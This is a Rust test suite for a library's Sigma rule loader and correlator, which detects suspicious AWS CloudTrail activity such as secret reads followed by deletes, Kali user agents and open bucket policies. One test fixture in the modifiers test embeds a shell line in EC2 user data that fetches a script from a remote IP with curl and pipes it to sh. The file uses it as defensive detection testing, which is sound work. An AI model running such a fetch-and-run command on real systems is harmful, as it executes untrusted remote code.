//! The Sigma front end: detection semantics, modifiers, filters, load failures, and correlation rules
//! under shuffled arrival order.
#![cfg(feature = "sigma")]

use std::path::PathBuf;

use chrono::Duration;
use cloudtrail_detect::sigma::{SigmaLoader, SigmaRules};
use cloudtrail_detect::{Correlator, Finding, RuleSet, Severity};
use cloudtrail_model::Event;
use proptest::prelude::*;
use serde_json::{Value, json};

fn load(text: &str) -> SigmaRules {
    let mut loader = SigmaLoader::new();
    loader.add_str("test.yml", text);
    loader.compile()
}

fn rule_set(text: &str) -> RuleSet {
    let loaded = load(text);
    let failures: Vec<String> = loaded.failures.iter().map(ToString::to_string).collect();
    assert!(failures.is_empty(), "{failures:#?}");
    RuleSet::new(loaded.rules).unwrap()
}

/// A detection rule around `detection` (YAML indented by four spaces).
fn detection(detection: &str) -> String {
    format!(
        "title: test rule\nid: test\nlevel: high\nlogsource: {{product: aws, service: cloudtrail}}\ndetection:\n{detection}"
    )
}

fn record(overrides: Value) -> Value {
    let mut base = json!({
        "eventVersion": "1.09", "eventTime": "2024-06-01T12:00:00Z", "eventID": "e-1",
        "eventSource": "s3.amazonaws.com", "eventName": "GetObject", "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.7", "userAgent": "aws-cli/2.15.0",
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::111122223333:user/alice",
                         "accountId": "111122223333", "userName": "alice"},
        "requestParameters": {"bucketName": "prod-data", "key": "reports/q1.csv"},
    });
    if let (Some(base), Some(overrides)) = (base.as_object_mut(), overrides.as_object()) {
        for (k, v) in overrides {
            if v.is_null() {
                base.remove(k);
            } else {
                base.insert(k.clone(), v.clone());
            }
        }
    }
    base
}

fn fires(rules: &RuleSet, record: &Value) -> bool {
    let text = record.to_string();
    let event = Event::from_json(&text).unwrap();
    let mut matches = Vec::new();
    rules.matches(&event, &mut matches);
    !matches.is_empty()
}

#[test]
fn values_wildcards_null_and_lists() {
    let rules = rule_set(&detection(
        "    selection:\n        eventName: ['Get*', 'PutObject']\n        requestParameters.key: 'reports/q?.csv'\n    empty:\n        errorCode: null\n    condition: selection and empty\n",
    ));
    assert!(fires(&rules, &record(json!({}))));
    assert!(
        fires(&rules, &record(json!({"eventName": "putobject"}))),
        "case-insensitive"
    );
    assert!(!fires(
        &rules,
        &record(json!({"eventName": "DeleteObject"}))
    ));
    assert!(!fires(
        &rules,
        &record(json!({"requestParameters": {"key": "reports/q10.csv"}}))
    ));
    assert!(
        !fires(&rules, &record(json!({"errorCode": "AccessDenied"}))),
        "null means absent"
    );

    let escaped = rule_set(&detection(
        "    selection:\n        requestParameters.key: 'a\\*b'\n    condition: selection\n",
    ));
    assert!(fires(
        &escaped,
        &record(json!({"requestParameters": {"key": "a*b"}}))
    ));
    assert!(!fires(
        &escaped,
        &record(json!({"requestParameters": {"key": "axxb"}}))
    ));
}

#[test]
fn modifiers() {
    let case = |selection: &str, yes: Value, no: Value| {
        let rules = rule_set(&detection(&format!(
            "    selection:\n        {selection}\n    condition: selection\n"
        )));
        assert!(
            fires(&rules, &record(yes.clone())),
            "{selection} should fire on {yes}"
        );
        assert!(
            !fires(&rules, &record(no.clone())),
            "{selection} should not fire on {no}"
        );
    };
    case(
        "userAgent|contains: 'Kali'",
        json!({"userAgent": "aws-cli/2 os/linux#kali"}),
        json!({}),
    );
    case(
        "userAgent|contains|all: ['aws-cli', 'kali']",
        json!({"userAgent": "aws-cli/2 os/linux#kali"}),
        json!({"userAgent": "boto3 kali"}),
    );
    case(
        "eventName|startswith: 'Get'",
        json!({}),
        json!({"eventName": "PutObject"}),
    );
    case(
        "eventName|endswith: 'object'",
        json!({}),
        json!({"eventName": "GetBucketAcl"}),
    );
    case(
        "userIdentity.arn|re: ':user/a.+e$'",
        json!({}),
        json!({"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/ALICE"}}),
    );
    case(
        "userIdentity.arn|re|i: ':user/ALICE$'",
        json!({}),
        json!({"userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/bob"}}),
    );
    case(
        "sourceIPAddress|cidr: ['198.51.100.0/24', '2001:db8::/32']",
        json!({}),
        json!({"sourceIPAddress": "203.0.113.9"}),
    );
    case(
        "errorCode|exists: true",
        json!({"errorCode": "AccessDenied"}),
        json!({}),
    );
    case(
        "errorCode|exists: false",
        json!({}),
        json!({"errorCode": "AccessDenied"}),
    );
    case(
        "eventName|cased: 'GetObject'",
        json!({}),
        json!({"eventName": "getobject"}),
    );
    case(
        "requestParameters.maxKeys|gte: 1000",
        json!({"requestParameters": {"maxKeys": 1000}}),
        json!({"requestParameters": {"maxKeys": 999}}),
    );
    case(
        "requestParameters.maxKeys|lt: 10",
        json!({"requestParameters": {"maxKeys": "5"}}),
        json!({"requestParameters": {"maxKeys": 10}}),
    );
    case(
        "requestParameters.userName|fieldref: userIdentity.userName",
        json!({"requestParameters": {"userName": "alice"}}),
        json!({"requestParameters": {"userName": "mallory"}}),
    );
    // Paths through arrays: any element.
    case(
        "requestParameters.ipPermissions.items.ipRanges.items.cidrIp: '0.0.0.0/0'",
        json!({"requestParameters": {"ipPermissions": {"items": [
            {"ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
            {"ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}}}),
        json!({"requestParameters": {"ipPermissions": {"items": [
            {"ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}}]}}}),
    );
    // EC2 user data is base64: `curl` at any alignment inside it.
    let user_data = |script: &str| {
        let encoded = base64(script.as_bytes());
        json!({"requestParameters": {"userData": encoded}})
    };
    case(
        "requestParameters.userData|base64offset|contains: 'curl'",
        user_data("#!/bin/sh\ncurl http://203.0.113.9/x | sh"),
        user_data("#!/bin/sh\necho hello"),
    );
    // A payload named alone is matched as its JSON text.
    case(
        "requestParameters|contains: 'Suspended'",
        json!({"requestParameters": {"VersioningConfiguration": {"Status": "Suspended"}}}),
        json!({}),
    );
}

/// Test-side base64, to encode user data the way EC2 records carry it.
fn base64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    bytes
        .chunks(3)
        .flat_map(|c| {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            (0..4).map(move |i| {
                if i <= c.len() {
                    A[(n >> (18 - 6 * i) & 63) as usize] as char
                } else {
                    '='
                }
            })
        })
        .collect()
}

#[test]
fn conditions_and_keywords() {
    let rules = rule_set(&detection(
        "    sel_get:\n        eventName: GetObject\n    sel_put:\n        eventName: PutObject\n    filter_ci:\n        userAgent|contains: terraform\n    keywords:\n        - 'prod-data'\n    condition: (1 of sel_* and keywords) and not filter_ci\n",
    ));
    assert!(fires(&rules, &record(json!({}))));
    assert!(fires(&rules, &record(json!({"eventName": "PutObject"}))));
    assert!(
        !fires(
            &rules,
            &record(json!({"requestParameters": {"bucketName": "dev"}}))
        ),
        "keyword"
    );
    assert!(!fires(
        &rules,
        &record(json!({"userAgent": "Terraform/1.7"}))
    ));

    let all_of = rule_set(&detection(
        "    a:\n        eventSource: s3.amazonaws.com\n    b:\n        awsRegion: us-east-1\n    condition: all of them\n",
    ));
    assert!(fires(&all_of, &record(json!({}))));
    assert!(!fires(&all_of, &record(json!({"awsRegion": "eu-west-1"}))));

    let listed = rule_set(&detection(
        "    a:\n        eventName: GetObject\n    b:\n        eventName: PutObject\n    condition: [a, b]\n",
    ));
    assert!(fires(&listed, &record(json!({"eventName": "PutObject"}))));
}

#[test]
fn metadata_becomes_the_rules() {
    let loaded = load(
        "title: Secret read\nid: 0a1b\nstatus: stable\nlevel: critical\ndescription: reads a secret\nreferences: [https://example.com]\nfalsepositives: [backups]\ntags: [attack.credential-access, attack.t1555.006]\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n    selection:\n        eventName: GetSecretValue\n    condition: selection\n",
    );
    let rule = &loaded.rules[0];
    assert_eq!(
        (
            rule.id.as_str(),
            rule.title.as_str(),
            rule.severity,
            rule.status.as_str()
        ),
        ("0a1b", "Secret read", Severity::Critical, "stable")
    );
    assert_eq!(rule.references, ["https://example.com"]);
    assert_eq!(rule.false_positives, ["backups"]);
    assert_eq!(rule.mitre[0].tactic, "TA0006");
    assert_eq!(rule.mitre[1].technique, "T1555.006");
}

#[test]
fn failures_name_the_file_the_rule_and_the_reason() {
    let mut loader = SigmaLoader::new();
    loader.add_str(
        "windash.yml",
        &detection("    selection:\n        userAgent|windash: '-x'\n    condition: selection\n"),
    );
    loader.add_str("bad.yml", "title: [unclosed\n");
    loader.add_str(
        "windows.yml",
        "title: w\nlogsource: {product: windows, category: process_creation}\ndetection:\n    s:\n        Image: x\n    condition: s\n",
    );
    loader.add_str(
        "unknown.yml",
        &detection("    selection:\n        eventName|sounds_like: x\n    condition: selection\n"),
    );
    loader.add_str(
        "good.yml",
        &detection("    s:\n        eventName: GetObject\n    condition: s\n"),
    );
    let loaded = loader.compile();
    assert_eq!(loaded.rules.len(), 1, "the good rule loads");
    let messages: Vec<String> = loaded.failures.iter().map(ToString::to_string).collect();
    assert_eq!(messages.len(), 4, "{messages:#?}");
    assert!(
        messages[0]
            .starts_with("windash.yml: rule \"test rule\": field `userAgent`: modifier `windash`"),
        "{}",
        messages[0]
    );
    assert!(
        messages[1].starts_with("bad.yml: invalid YAML"),
        "{}",
        messages[1]
    );
    assert!(
        messages[2].contains(
            "log source {product: windows, category: process_creation} is not AWS CloudTrail"
        ),
        "{}",
        messages[2]
    );
    assert!(
        messages[3].contains("modifier `sounds_like` is not supported: unknown modifier"),
        "{}",
        messages[3]
    );
}

fn testdata(path: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/sigma")
        .join(path)
}

#[test]
fn legacy_aggregations_and_placeholders_fail_clearly() {
    let mut loader = SigmaLoader::new();
    assert_eq!(loader.add_path(testdata("unsupported")), 0);
    let loaded = loader.compile();
    assert!(loaded.rules.is_empty());
    assert_eq!(loaded.failures.len(), 8);
    for failure in &loaded.failures {
        let message = failure.to_string();
        assert!(message.contains("Sigma 1.0 aggregations"), "{message}");
        assert!(failure.source.extension().is_some_and(|e| e == "yml"));
        assert!(failure.rule.is_some());
    }
    let mut loader = SigmaLoader::new();
    loader.add_path(testdata("rules-placeholder"));
    let loaded = loader.compile();
    assert_eq!(loaded.failures.len(), 1);
    assert!(loaded.failures[0].to_string().contains("modifier `expand`"));
}

#[test]
fn filters_are_added_to_the_rules_they_name() {
    let rules = rule_set(&format!(
        "{}\n---\ntitle: CI is allowed\nlogsource: {{product: aws, service: cloudtrail}}\nfilter:\n    rules: [test]\n    selection:\n        userAgent|startswith: Terraform\n    condition: not selection\n",
        detection("    s:\n        eventName: GetObject\n    condition: s\n")
    ));
    assert!(fires(&rules, &record(json!({}))));
    assert!(!fires(
        &rules,
        &record(json!({"userAgent": "Terraform/1.7 aws-sdk-go"}))
    ));

    let loaded = load(
        "title: orphan filter\nlogsource: {product: aws, service: cloudtrail}\nfilter:\n    rules: [nothing]\n    selection:\n        userAgent: x\n    condition: not selection\n",
    );
    assert!(
        loaded.failures[0]
            .to_string()
            .contains("no rule named \"nothing\"")
    );
}

// Correlations.

const BASE: &str = "title: secret read\nname: secret_read\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n    s:\n        eventName: GetSecretValue\n    condition: s\n---\ntitle: secret deleted\nname: secret_deleted\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n    s:\n        eventName: DeleteSecret\n    condition: s\n";

fn at(minute: i64, name: &str, user: &str, secret: &str) -> Value {
    let time = chrono::DateTime::parse_from_rfc3339("2024-06-01T12:00:00Z").unwrap()
        + Duration::seconds(minute * 60);
    json!({
        "eventVersion": "1.09", "eventTime": time.to_utc().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
        "eventID": format!("{name}-{user}-{minute}-{secret}"),
        "eventSource": "secretsmanager.amazonaws.com", "eventName": name,
        "sourceIPAddress": "198.51.100.7",
        "userIdentity": {"type": "IAMUser", "arn": format!("arn:aws:iam::111122223333:user/{user}"),
                         "accountId": "111122223333", "userName": user},
        "requestParameters": {"secretId": secret},
    })
}

/// Findings (rule id, entity, events) for records delivered in `order`.
fn correlate(rules: &RuleSet, records: &[Value], order: &[usize]) -> Vec<(String, String, u64)> {
    let mut correlator = Correlator::new(rules, Duration::hours(2));
    let mut findings: Vec<Finding> = Vec::new();
    for &i in order {
        let text = records[i].to_string();
        let event = Event::from_json(&text).unwrap();
        let mut matches = Vec::new();
        rules.matches(&event, &mut matches);
        for m in matches {
            findings.extend(correlator.push(m).unwrap());
        }
    }
    findings.extend(correlator.finish());
    let mut out: Vec<(String, String, u64)> = findings
        .into_iter()
        .map(|f| (f.rule_id, f.entity, f.events))
        .collect();
    out.sort();
    out
}

/// The findings of the correlation under test (rule `corr`), leaving out rules it does not reference.
fn corr(findings: Vec<(String, String, u64)>) -> Vec<(String, String, u64)> {
    findings.into_iter().filter(|f| f.0 == "corr").collect()
}

fn correlation(body: &str) -> RuleSet {
    rule_set(&format!(
        "{BASE}---\ntitle: correlation\nid: corr\nlevel: high\ncorrelation:\n{body}"
    ))
}

fn story() -> Vec<Value> {
    vec![
        at(0, "GetSecretValue", "alice", "a"),
        at(1, "GetSecretValue", "alice", "b"),
        at(2, "GetSecretValue", "alice", "c"),
        at(3, "GetSecretValue", "bob", "a"),
        at(4, "DeleteSecret", "alice", "c"),
        at(30, "DeleteSecret", "bob", "a"),
        at(100, "GetSecretValue", "bob", "z"),
    ]
}

fn shuffled(n: usize) -> impl Strategy<Value = Vec<usize>> {
    Just((0..n).collect::<Vec<_>>()).prop_shuffle()
}

fn alice() -> String {
    "arn:aws:iam::111122223333:user/alice".to_owned()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn event_count_in_any_order(order in shuffled(7)) {
        let rules = correlation("    type: event_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {gte: 3}\n");
        prop_assert_eq!(corr(correlate(&rules, &story(), &order)), vec![("corr".to_owned(), alice(), 3)]);
    }

    #[test]
    fn event_count_ranges_in_any_order(order in shuffled(7)) {
        // Fewer than three reads in the window: bob (once at 3, once at 100); not alice (three).
        let rules = correlation("    type: event_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {lt: 3}\n");
        let bob = "arn:aws:iam::111122223333:user/bob".to_owned();
        prop_assert_eq!(
            corr(correlate(&rules, &story(), &order)),
            vec![("corr".to_owned(), bob.clone(), 1), ("corr".to_owned(), bob, 1)]
        );
    }

    #[test]
    fn value_count_in_any_order(order in shuffled(7)) {
        let rules = correlation("    type: value_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {field: requestParameters.secretId, gte: 3}\n");
        prop_assert_eq!(corr(correlate(&rules, &story(), &order)), vec![("corr".to_owned(), alice(), 3)]);
    }

    #[test]
    fn temporal_in_any_order(order in shuffled(7)) {
        // Read and delete by the same user within 10 minutes, in either order: alice only (bob's delete
        // comes 27 minutes after his read).
        let rules = correlation("    type: temporal\n    rules: [secret_deleted, secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n");
        prop_assert_eq!(correlate(&rules, &story(), &order), vec![("corr".to_owned(), alice(), 2)]);
    }

    #[test]
    fn temporal_ordered_in_any_arrival_order(order in shuffled(7)) {
        let ordered = correlation("    type: temporal_ordered\n    rules: [secret_read, secret_deleted]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n");
        prop_assert_eq!(correlate(&ordered, &story(), &order), vec![("corr".to_owned(), alice(), 2)]);
        // Delete before read never happens in the story.
        let reversed = correlation("    type: temporal_ordered\n    rules: [secret_deleted, secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n");
        prop_assert_eq!(correlate(&reversed, &story(), &order), vec![]);
    }
}

#[test]
fn aliases_group_different_fields_together() {
    // The deleted secret (requestParameters.secretId) and the reader (userIdentity.userName) of rule
    // two share the alias `who`: a read by alice and a delete of a secret named "alice".
    let rules = correlation(
        "    type: temporal\n    rules: [secret_read, secret_deleted]\n    group-by: [who]\n    timespan: 10m\n    aliases:\n        who:\n            secret_read: userIdentity.userName\n            secret_deleted: requestParameters.secretId\n",
    );
    let records = vec![
        at(0, "GetSecretValue", "alice", "x"),
        at(2, "DeleteSecret", "bob", "alice"),
        at(3, "DeleteSecret", "carol", "dave"),
    ];
    assert_eq!(
        correlate(&rules, &records, &[2, 1, 0]),
        vec![("corr".to_owned(), "alice".to_owned(), 2)]
    );
}

#[test]
fn generate_and_chaining() {
    // Without `generate`, the base rules report nothing of their own.
    let rules = correlation(
        "    type: event_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {gte: 3}\n",
    );
    assert_eq!(rules.rules().len(), 2, "secret_deleted and the correlation");
    // With it, they do.
    let rules = correlation(
        "    type: event_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {gte: 3}\n    generate: true\n",
    );
    assert_eq!(rules.rules().len(), 3);

    // A chain: three reads (a correlation), then a delete by the same user within 30 minutes.
    let chained = rule_set(&format!(
        "{BASE}---\ntitle: many reads\nname: many_reads\ncorrelation:\n    type: event_count\n    rules: [secret_read]\n    group-by: [userIdentity.arn]\n    timespan: 10m\n    condition: {{gte: 3}}\n---\ntitle: reads then delete\nid: chain\nlevel: critical\ncorrelation:\n    type: temporal_ordered\n    rules: [many_reads, secret_deleted]\n    group-by: [userIdentity.arn]\n    timespan: 30m\n"
    ));
    let ids: Vec<&str> = chained.rules().iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        ["many_reads", "chain"],
        "the chained correlation comes first"
    );
    assert!(
        !chained.rules()[0].report,
        "many_reads only feeds the chain"
    );
    assert_eq!(
        correlate(&chained, &story(), &[0, 1, 2, 3, 4, 5, 6]),
        vec![("chain".to_owned(), alice(), 2)]
    );

    let cycle = load(&format!(
        "{BASE}---\ntitle: a\nname: a\ncorrelation:\n    type: temporal\n    rules: [b, secret_read]\n    timespan: 5m\n---\ntitle: b\nname: b\ncorrelation:\n    type: temporal\n    rules: [a, secret_read]\n    timespan: 5m\n"
    ));
    assert_eq!(cycle.failures.len(), 2);
    assert!(
        cycle
            .failures
            .iter()
            .any(|f| f.to_string().contains("correlation cycle"))
    );
}

#[test]
fn correlations_without_group_by_count_everything() {
    let rules = correlation(
        "    type: event_count\n    rules: [secret_read]\n    timespan: 10m\n    condition: {gte: 4}\n",
    );
    assert_eq!(
        corr(correlate(&rules, &story(), &[6, 5, 4, 3, 2, 1, 0])),
        vec![("corr".to_owned(), String::new(), 4)]
    );
}

#[test]
fn deep_nesting_is_an_error_not_a_crash() {
    for text in [
        "[".repeat(100_000),
        "- ".repeat(100_000),
        "{a: ".repeat(100_000),
    ] {
        let mut loader = SigmaLoader::new();
        loader.add_str("deep.yml", &text);
        let loaded = loader.compile();
        assert!(loaded.rules.is_empty());
        assert_eq!(loaded.failures.len(), 1);
    }
}

/// A bucket policy whose statements name their principal as a string, as an object, and in an array of
/// both (the shapes S3 accepts).
fn policy_record(principal: Value) -> Value {
    record(json!({
        "eventName": "PutBucketPolicy",
        "requestParameters": {"bucketName": "prod-data", "bucketPolicy": {
            "Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Principal": principal, "Action": "s3:GetObject"}]}},
    }))
}

#[test]
fn string_tests_apply_to_scalars_not_to_objects() {
    let any_principal = rule_set(&detection(
        "    selection:\n        requestParameters.bucketPolicy.Statement.Principal: '*'\n    condition: selection\n",
    ));
    let root = json!({"AWS": "arn:aws:iam::1:root"});
    // The object is not a string: not even the any-string wildcard matches its JSON text.
    assert!(!fires(&any_principal, &policy_record(root.clone())));
    assert!(fires(&any_principal, &policy_record(json!("*"))));
    assert!(fires(
        &any_principal,
        &policy_record(json!([root.clone(), "*"]))
    ));
    for modifier in ["contains", "startswith", "endswith", "re", "cidr"] {
        let value = if modifier == "cidr" {
            "0.0.0.0/0"
        } else {
            "AWS"
        };
        let rules = rule_set(&detection(&format!(
            "    selection:\n        requestParameters.bucketPolicy.Statement.Principal|{modifier}: '{value}'\n    condition: selection\n"
        )));
        assert!(!fires(&rules, &policy_record(root.clone())), "{modifier}");
    }
    // A path into the object reaches its members; `exists` still sees the object.
    let member = rule_set(&detection(
        "    selection:\n        requestParameters.bucketPolicy.Statement.Principal.AWS|endswith: ':root'\n    condition: selection\n",
    ));
    assert!(fires(&member, &policy_record(root.clone())));
    let exists = rule_set(&detection(
        "    selection:\n        requestParameters.bucketPolicy.Statement.Principal|exists: true\n    condition: selection\n",
    ));
    assert!(fires(&exists, &policy_record(root.clone())));
    assert!(!fires(
        &exists,
        &record(
            json!({"requestParameters": {"bucketPolicy": {"Statement": [{"Effect": "Allow"}]}}})
        )
    ));
    // A whole payload stays a text, as SIEMs store it and SigmaHQ's rules read it.
    let whole = rule_set(&detection(
        "    selection:\n        requestParameters|contains: 'arn:aws:iam::1:root'\n    condition: selection\n",
    ));
    assert!(fires(&whole, &policy_record(root)));
}

#[test]
fn the_rust_builder_reads_objects_the_same_way() {
    use cloudtrail_detect::field;
    let text = policy_record(json!({"AWS": "arn:aws:iam::1:root"})).to_string();
    let event = Event::from_json(&text).unwrap();
    let view = cloudtrail_detect::EventView::new(&event);
    let principal = || field("requestParameters.bucketPolicy.Statement.Principal");
    assert!(!principal().glob(["*"]).holds(&view));
    assert!(!principal().contains(["aws"]).holds(&view));
    assert!(principal().exists().holds(&view));
    assert!(
        field("requestParameters.bucketPolicy.Statement.Principal.AWS")
            .ends_with([":root"])
            .holds(&view)
    );
    assert!(
        field("requestParameters")
            .contains(["arn:aws:iam::1:root"])
            .holds(&view)
    );
}
